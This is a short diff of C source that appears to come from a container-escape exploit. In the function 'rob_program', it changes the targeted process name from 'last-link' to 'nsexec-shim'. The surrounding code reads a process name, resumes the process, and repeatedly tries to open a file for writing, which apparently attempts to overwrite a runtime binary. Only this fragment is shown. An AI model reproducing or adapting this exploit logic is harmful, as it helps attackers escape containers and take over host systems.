@@ -91,7 +91,7 @@ static void rob_program(int pid)
     name[got < 0 ? 0 : got] = 0;
     printf("program %s\n", name);
     kill(pid, SIGCONT);
-    if (!strstr(name, "last-link")) /* the container's own: nothing to gain, and perhaps another's file */
+    if (!strstr(name, "nsexec-shim")) /* the container's own: nothing to gain, and perhaps another's file */
         return;
     for (int tries = 0; tries < 3000; tries++) {
         int writable = open(again, O_WRONLY);
